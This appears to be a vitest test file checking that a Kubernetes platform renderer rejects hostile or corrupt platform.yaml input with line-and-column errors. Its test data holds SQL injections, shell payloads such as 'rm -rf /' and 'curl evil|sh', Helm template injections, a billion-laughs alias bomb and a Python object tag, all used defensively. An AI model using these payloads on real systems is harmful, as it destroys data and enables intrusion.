/**
 * Hostile and broken input. Names that could inject into SQL, shell, YAML, Helm templates or
 * Kubernetes names are refused by input validation with a positioned message and a hint;
 * free text that is accepted survives the YAML round trip byte for byte; and a corrupt or
 * half-edited platform.yaml (bad YAML, duplicate keys, wrong types, alias bombs, absurd
 * nesting) gives line and column, never a crash.
 */
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parse, parseDocument } from 'yaml';
import { platformFileOf } from '../src/paths.ts';
import { renderText, type Refused } from '../src/render.ts';

const BASE = readFileSync(platformFileOf('prod'), 'utf8');
const FILE = 'apps/prod/platform.yaml';

/** The prod desired state with one value replaced, as text (comments and layout kept). */
function withValue(path: (string | number)[], value: unknown): string {
  const doc = parseDocument(BASE);
  doc.setIn(path, value);
  return doc.toString();
}

function refused(text: string): Refused {
  const r = renderText(text, FILE, 'prod');
  if (r.ok) throw new Error('accepted');
  return r;
}

/** Index of tenants by name in the prod file. */
const tenants = (parse(BASE) as { tenants: { name: string }[] }).tenants;
const t = (name: string) => tenants.findIndex((x) => x.name === name);

type Case = readonly [label: string, path: (string | number)[], value: unknown, hintWords: RegExp];
const SQL_HINT = /an identifier every SQL server here takes without quoting/;

const INJECTION: Record<string, readonly Case[]> = {
  sql: [
    ['quote and statement in a PostgreSQL database', ['tenants', t('linkwarden'), 'postgres', 'database'], "lw'; DROP DATABASE postgres; --", SQL_HINT],
    ['double quote in a PostgreSQL role', ['tenants', t('linkwarden'), 'postgres', 'role'], 'lw" SUPERUSER --', SQL_HINT],
    ['comment in a MySQL database', ['tenants', t('nextcloud'), 'mysql', 'database'], 'nc/*x*/', SQL_HINT],
    ['backtick in a MySQL user', ['tenants', t('nextcloud'), 'mysql', 'user'], 'nc`@`%', SQL_HINT],
    ['space and OR in a MySQL user', ['tenants', t('nextcloud'), 'mysql', 'user'], "x' OR '1'='1", SQL_HINT],
    ['wildcard % in a MySQL database', ['tenants', t('nextcloud'), 'mysql', 'database'], 'next%', SQL_HINT],
    ['a full-width homoglyph', ['tenants', t('linkwarden'), 'postgres', 'database'], 'ｌinkwarden', SQL_HINT],
    ['a reserved PostgreSQL role', ['tenants', t('linkwarden'), 'postgres', 'role'], 'pg_execute_server_program', /choose the app's own name/],
    ['a reserved MySQL user', ['tenants', t('nextcloud'), 'mysql', 'user'], 'root', /choose the app's own name|reserved/],
  ],
  shell: [
    ['command substitution in a backup path', ['postgres', 'backup', 'path'], '/srv/$(rm -rf /)', /absolute path/],
    ['a semicolon in a backup path', ['mysql', 'backup', 'path'], '/srv/nfs;reboot', /absolute path/],
    ['.. escaping the export', ['redis', 'backup', 'path'], '/srv/nfs/../../etc', /without "\.\." segments/],
    ['a semicolon in the NFS server', ['backups', 'nfs', 'server'], 'nfs.lan; curl evil|sh', /must match|not valid/],
    ['backticks in the Pushgateway URL', ['monitoring', 'pushgateway'], 'http://`id`.lan:9091', /must match|not valid/],
    ['a command after a cron schedule', ['postgres', 'backup', 'schedule'], '0 2 * * * ; rm -rf /', /five cron fields/],
    ['command substitution in a cron field', ['mysql', 'backup', 'schedule'], '$(reboot) 2 * * *', /five cron fields/],
    ['a command in a push interval', ['tenants', t('technitium'), 'mysql', 'pushPassword', 'every'], '6h; rm -rf /', /duration/],
    ['spaces in the sentinel master name', ['redis', 'sentinel', 'masterName'], 'my master; SHUTDOWN', /must match|not valid/],
  ],
  yaml: [
    ['a mapping in a tenant name', ['tenants', t('linkwarden'), 'name'], 'lw: {kind: Secret}', /Kubernetes name/],
    ['an anchor in a namespace', ['tenants', t('linkwarden'), 'namespace'], '&x lw', /Kubernetes name/],
    ['a document break in a description', ['tenants', t('linkwarden'), 'description'], 'x\n---\nkind: Secret', /one line of plain text/],
    ['a new line in a waiver reason', ['waivers', 0, 'reason'], 'accepted for now, see below\nrule: nfs-database-volume', /one line of plain text/],
    ['a new line in a Prometheus selector value', ['monitoring', 'prometheusSelector', 'release'], 'x\ny: z', /label value/],
    ['a quote in a postgresql.conf value', ['postgres', 'parameters', 'work_mem'], "8MB'\nshared_preload_libraries = 'evil", /postgresql\.conf value/],
  ],
  helm: [
    ['a template in a description', ['tenants', t('linkwarden'), 'description'], '{{ .Values.secret }}', /Helm/],
    ['a template in a rotation reason', ['tenants', t('authentik'), 'postgres', 'rotateReason'], 'managed by hand {{ lookup "v1" "Secret" "" "" }}', /Helm/],
    ['a template in a waiver reason', ['waivers', 0, 'reason'], 'two Celery apps share keys }} {{ .Release.Name', /Helm/],
    ['a template in a Redis key prefix', ['tenants', t('immich'), 'redis', 'prefixes', 0], '{{bull}}', /Helm/],
    ['a template in the runbook URL', ['monitoring', 'runbookBaseUrl'], 'https://example.org/{{ .Release.Name }}/runbooks', /plain path segments/],
    ['a template in a postgresql.conf value', ['postgres', 'parameters', 'work_mem'], '{{ .Values.mem }}', /postgresql\.conf value/],
    ['a template in a label value', ['monitoring', 'prometheusSelector', 'release'], '{{x}}', /label value/],
  ],
  kubernetes: [
    ['upper case in a tenant name', ['tenants', t('linkwarden'), 'name'], 'LinkWarden', /Kubernetes name/],
    ['an underscore in a namespace', ['tenants', t('linkwarden'), 'namespace'], 'link_warden', /Kubernetes name/],
    ['a leading dash in the cluster name', ['cluster'], '-prod', /Kubernetes name/],
    ['64 characters in a tenant name', ['tenants', t('linkwarden'), 'name'], 'a'.repeat(64), /63 characters/],
    ['a path in a storage class', ['storage', 'block'], '../proxmox-lvm', /Kubernetes name/],
    ['a bad label key', ['monitoring', 'prometheusPodLabels', 'app name'], 'prometheus', /label key/],
  ],
};

describe.each(Object.entries(INJECTION))('%s injection is refused at input', (_, cases) => {
  it.each(cases)('%s', (_, path, value, hint) => {
    const r = refused(withValue(path, value));
    const field = path.map((p, i) => (typeof p === 'number' ? `[${p}]` : `${i === 0 ? '' : '.'}${p}`)).join('');
    const problem = r.problems.find((p) => p.field === field || p.field.startsWith(field));
    expect(problem, `no problem for ${field}: ${JSON.stringify(r.problems)}`).toBeDefined();
    expect(problem!.file).toBe(FILE);
    expect(problem!.line).toBeGreaterThan(0);
    expect(problem!.column).toBeGreaterThan(0);
    expect(`${problem!.message} ${problem!.hint ?? ''}`).toMatch(hint);
  });
});

describe('accepted free text is data, never structure', () => {
  it('a rotation reason full of YAML syntax round-trips through the rendered CNPG Cluster unchanged', () => {
    const reason = `Helm chart: "bakes" it; # not a comment & *not-alias !!str | > % @ \` ' [x] {y}`;
    const r = renderText(withValue(['tenants', t('crowdsec'), 'postgres', 'rotateReason'], reason), FILE, 'prod');
    if (!r.ok) throw new Error(JSON.stringify(r.problems));
    const file = [...r.files].find(([f]) => f.startsWith('postgres/cluster-'))![1];
    const cluster = parse(file) as { spec: { managed: { roles: { name: string; comment: string }[] } } };
    expect(cluster.spec.managed.roles.find((x) => x.name === 'crowdsec')!.comment).toBe(`tenant crowdsec; not rotated: ${reason}`);
  });
});

describe('corrupt and half-edited desired state: a message with line and column', () => {
  // Cut in the middle of a key, as an editor saved mid-word: `runbookB`.
  const half = BASE.slice(0, BASE.indexOf('runbookBaseUrl') + 'runbookB'.length);
  const cases: [string, string, RegExp][] = [
    ['a half-edited file (cut mid-line)', half, /.+/],
    ['unclosed flow mapping', BASE.replace('backups:\n  nfs: { server: nfs.home.lan, path: /srv/nfs }', 'backups:\n  nfs: { server: nfs.home.lan, path: /srv/nfs'), /YAML/],
    ['tab indentation', BASE.replace('  block: proxmox-lvm', '\tblock: proxmox-lvm'), /YAML/],
    ['a duplicate key', BASE.replace('cluster: prod', 'cluster: prod\ncluster: lab'), /duplicate key/],
    ['a wrong type', BASE.replace('instances: 2 #', 'instances: "2" #'), /must be integer/],
    ['a list where a mapping belongs', BASE.replace('backups:\n  nfs:', 'backups:\n  - nfs:'), /must be object/],
    ['a billion-laughs alias bomb', `a: &a [x,x,x,x,x,x,x,x,x]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c]\n${BASE}`, /alias/i],
    ['an undefined alias', BASE.replace('cluster: prod', 'cluster: *nowhere'), /YAML/],
    ['brackets nested 20000 deep', `cluster: ${'['.repeat(20000)}${']'.repeat(20000)}\n`, /nesting too deep|YAML/],
    ['a second document', `${BASE}\n---\ncluster: lab\n`, /multiple documents/],
    ['an unknown tag', BASE.replace('cluster: prod', 'cluster: !!python/object:os.system prod'), /tag/i],
    ['a NUL byte in a value', BASE.replace('cluster: prod', 'cluster: pr\u0000od'), /not valid|YAML/],
  ];
  it.each(cases)('%s', (_, text, message) => {
    let r: ReturnType<typeof renderText> | undefined;
    expect(() => (r = renderText(text, FILE, 'prod'))).not.toThrow();
    expect(r!.ok).toBe(false);
    const problems = (r as Refused).problems;
    expect(problems.length).toBeGreaterThan(0);
    for (const p of problems) {
      expect(p.file).toBe(FILE);
      expect(p.line, JSON.stringify(p)).toBeGreaterThan(0);
      expect(p.column, JSON.stringify(p)).toBeGreaterThan(0);
      expect(p.message.length).toBeGreaterThan(0);
    }
    expect(problems.map((p) => p.message).join('\n')).toMatch(message);
  });
});
